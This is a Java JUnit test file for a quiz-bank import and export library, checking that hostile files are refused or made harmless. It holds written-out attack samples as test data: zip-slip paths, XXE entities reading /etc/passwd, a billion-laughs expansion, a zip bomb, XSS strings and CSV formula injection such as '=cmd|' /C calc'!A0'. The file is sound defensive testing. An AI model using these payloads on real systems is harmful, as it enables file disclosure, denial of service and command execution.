package org.pingandeng.quiz.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.pingandeng.quiz.exchange.RowProblem.Reason;
import org.pingandeng.quiz.item.Item;
import org.pingandeng.quiz.item.Use;

/** Files made to do harm are refused in words, or what is harmful in them does nothing. */
class HostileFilesTest {

    private static final String HEADER = "编号,题型,用途,题干,选项,答案,知识点\n";

    private static final String EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>";
    private static final String LAUGHS = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>";
    private static final String REMOTE = "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/evil.dtd\">";

    private static ItemFile read(byte[] bytes) {
        return ItemFormat.read(bytes, Filing.OPEN);
    }

    private static ItemFile read(String text) {
        return read(text.getBytes(StandardCharsets.UTF_8));
    }

    private static void refused(Reason reason, ItemFile file) {
        assertEquals(
                List.of(reason),
                file.problems().stream().map(RowProblem::reason).distinct().toList());
        assertEquals(List.of(), file.rows());
    }

    /** A sound package, workbook and document with something changed in them. */
    private static byte[] with(byte[] zip, String name, byte[] part) {
        Map<String, byte[]> parts = new LinkedHashMap<>(Zips.parts(zip));
        parts.put(name, part);
        return Zips.of(parts);
    }

    private static byte[] workbook() {
        return ItemFormat.EXCEL
                .write(SampleRows.of(new java.util.Random(3), "|"))
                .file();
    }

    private static byte[] document() {
        return WordFile.of("判断题\n1. 甲。（√）").bytes();
    }

    @ParameterizedTest
    @ValueSource(strings = {"../../etc/cron.d/evil", "/etc/passwd", "a/../../b", "C:/x", "..\\..\\x", "a\u0000b"})
    void aNameThatLeadsOutOfItsArchiveIsRefused(String name) {
        byte[] evil = "x".getBytes(StandardCharsets.UTF_8);
        refused(Reason.UNSAFE_NAME, read(Zips.of(Map.of(name, evil))));
        refused(Reason.UNSAFE_NAME, read(with(QtiSamples.packed(QtiSamples.SINGLE), name, evil)));
        refused(Reason.UNSAFE_NAME, read(with(workbook(), name, evil)));
    }

    /** Nothing in a document is ever unpacked to a place that the document names. */
    @Test
    void aNameThatLeadsOutOfADocumentIsNeverLookedAt() {
        ItemFile file = read(with(document(), "../../etc/cron.d/evil", new byte[1]));
        assertEquals(1, file.rows().size());
    }

    @Test
    void aPictureAddressNeverLeadsOutOfThePackage() {
        for (String address : List.of("../../../etc/passwd", "/../etc/passwd", "%2e%2e/%2e%2e/%2e%2e/etc/passwd")) {
            refused(
                    Reason.FILE_MISSING,
                    read(QtiSamples.packed(QtiSamples.SPOTS.replace("../media/site.png", address))));
        }
        for (String address : List.of("file:///etc/passwd", "http://127.0.0.1:9/x.png", "//127.0.0.1/x.png")) {
            ItemFile file = read(QtiSamples.packed(QtiSamples.FORMULA.replace("../media/site.png", address)));
            assertTrue(file.losses().stream().anyMatch(loss -> loss.kind() == Loss.Kind.PICTURE));
            assertEquals(1, file.attachments().size());
        }
    }

    static Stream<String> bombs() {
        return Stream.of("items/q0.xml", "imsmanifest.xml", "media/site.png");
    }

    @ParameterizedTest
    @MethodSource("bombs")
    void whatUnpacksWithoutEndIsGivenUp(String part) {
        byte[] blanks = new byte[64 << 20];
        Arrays.fill(blanks, (byte) ' ');
        byte[] bomb = with(QtiSamples.packed(QtiSamples.SPOTS), part, blanks);
        assertTrue(bomb.length < 1 << 20);
        refused(Reason.TOO_LARGE, read(bomb));
    }

    static Stream<byte[]> doctypes() {
        return Stream.of(EXTERNAL, LAUGHS, REMOTE)
                .flatMap(type -> Stream.of(
                        (type + "<quiz><question type='essay'><name><text>&a;</text></name></question></quiz>")
                                .getBytes(StandardCharsets.UTF_8),
                        ("<?xml version='1.0'?>" + type + "<assessmentItem>&a;</assessmentItem>")
                                .getBytes(StandardCharsets.UTF_8),
                        QtiSamples.packed(type + "<assessmentItem>&d;</assessmentItem>"),
                        with(
                                QtiSamples.packed(QtiSamples.SINGLE),
                                "imsmanifest.xml",
                                (type + "<manifest>&d;</manifest>").getBytes(StandardCharsets.UTF_8))));
    }

    @ParameterizedTest
    @MethodSource("doctypes")
    void aDocumentTypeOfTheFilesOwnIsRefused(byte[] file) {
        refused(Reason.HAS_DOCTYPE, read(file));
    }

    @Test
    void aSheetOrADocumentWithEntitiesIsRefused() {
        for (String type : List.of(EXTERNAL, LAUGHS, REMOTE)) {
            byte[] xml = (type + "<worksheet><sheetData><row><c><v>&a;</v></c></row></sheetData></worksheet>")
                    .getBytes(StandardCharsets.UTF_8);
            refused(Reason.NOT_READABLE, read(with(workbook(), "xl/worksheets/sheet1.xml", xml)));
            refused(Reason.NOT_READABLE, read(with(document(), "word/document.xml", xml)));
        }
    }

    @Test
    void macrosNeverRun() {
        refused(Reason.MACROS, read(with(document(), "word/vbaProject.bin", new byte[9])));
        String types = new String(Zips.parts(workbook()).get("[Content_Types].xml"), StandardCharsets.UTF_8);
        byte[] known = types.replace("<Override", "<Default Extension='bin' ContentType='x/vba'/><Override")
                .getBytes(StandardCharsets.UTF_8);
        byte[] book = with(with(workbook(), "[Content_Types].xml", known), "xl/vbaProject.bin", new byte[9]);
        assertEquals(read(workbook()).rows(), read(book).rows());
    }

    @Test
    void scriptsStayBehind() {
        String script = "<script>alert(1)</script><img src='x' onerror='alert(1)'/><a href='javascript:alert(1)'>看</a>";
        ItemFile qti = read(QtiSamples.packed(QtiSamples.SINGLE.replace("油锅", "油锅" + script)));
        ItemFile moodle = read("<quiz><question type='truefalse'><questiontext format='html'><text><![CDATA[油锅" + script
                + "]]></text></questiontext><answer fraction='100'><text>true</text></answer></question></quiz>");
        ItemFile gift = read("[html]油锅" + script.replace(":", "\\:").replace("=", "\\=") + "{T}");
        for (ItemFile file : List.of(moodle, gift)) {
            Item item = file.rows().get(0).item();
            assertEquals("油锅看", item.text().stem());
            assertTrue(file.losses().stream().anyMatch(loss -> loss.kind() == Loss.Kind.PICTURE));
        }
        assertEquals(Reason.FILE_MISSING, qti.problems().get(0).reason()); // the picture that its tag names
        assertTrue(qti.rows().stream().noneMatch(row -> row.item().text().stem().contains("alert")));
    }

    /** Told row by row at every level, tables within tables would double with each of them. */
    @Test
    void tablesWithinTablesAreToldOnce() {
        String nested = "<table><tr><td>嵌|".repeat(15) + "</td></tr></table>".repeat(15);
        ItemFile file = read(QtiSamples.packed(QtiSamples.SINGLE.replace("油锅着火", "</p>" + nested + "<p>油锅着火")));
        String stem = file.rows().get(0).item().text().stem();
        assertEquals(15, stem.chars().filter(c -> c == '嵌').count());
    }

    /** A drawing can carry script; it is no picture for the library. */
    @Test
    void drawingsStayBehind() {
        Map<String, byte[]> parts = QtiSamples.parts(List.of(QtiSamples.FORMULA));
        parts.put("media/site.png", QtiSamples.utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
        ItemFile file = read(Zips.of(parts));
        assertEquals(1, file.attachments().size());
        assertTrue(file.losses().stream().anyMatch(loss -> loss.kind() == Loss.Kind.PICTURE));
    }

    @Test
    void aHugeTableStopsAtItsBoundAndSaysSoOnce() {
        StringBuilder table = new StringBuilder(HEADER);
        for (int i = 0; i < 60_000; i++) {
            table.append("s-").append(i).append(",判断,练习,题").append(i).append(",,对,消防\n");
        }
        ItemFile file = read(table.toString());
        assertEquals(
                List.of(Reason.TOO_MANY_ROWS),
                file.problems().stream().map(RowProblem::reason).toList());
    }

    @Test
    void aFormulaCountsByItsStoredValueAndIsNeverCalculated() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(workbook()))) {
            XSSFSheet sheet = book.getSheetAt(0);
            Row row = sheet.createRow(sheet.getLastRowNum() + 1);
            String[] cells = {"f-1", "判断", "练习", "", "", "对", "", "消防"};
            for (int i = 0; i < cells.length; i++) {
                row.createCell(i).setCellValue(cells[i]);
            }
            Cell stem = row.createCell(3);
            stem.setCellFormula("HYPERLINK(\"http://127.0.0.1:9/\"&A2,\"点我\")");
            stem.setCellValue("存下的题干");
            assertEquals(CellType.FORMULA, stem.getCellType());
            book.write(out);
        }
        ItemFile file = read(out.toByteArray());
        assertTrue(file.rows().stream().anyMatch(row -> row.item().text().stem().equals("存下的题干")));
    }

    /** A spreadsheet takes what begins with one of these for a formula when it opens a CSV. */
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x.cn\")", "+1", "-1+1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0"})
    void exportedCellsAreNeverFormulas(String words) throws IOException {
        Item.Text text = new Item.Text(words, words, "消防", 3, List.of(), words.strip());
        List<ItemRow> rows = List.of(new ItemRow(0, "e-1", Use.PRACTICE, new Item.TrueFalse(text, true)));
        String csv = new String(ItemFormat.CSV.write(rows).file(), StandardCharsets.UTF_8);
        assertFalse(Stream.of(csv.split("[,\\n\\r]"))
                .map(cell -> cell.replaceFirst("^\"", ""))
                .anyMatch(cell -> cell.matches("[=+@\\t-].*")));
        try (XSSFWorkbook book = new XSSFWorkbook(
                new ByteArrayInputStream(ItemFormat.EXCEL.write(rows).file()))) {
            book.getSheetAt(0).forEach(row -> row.forEach(cell -> assertEquals(CellType.STRING, cell.getCellType())));
        }
    }
}
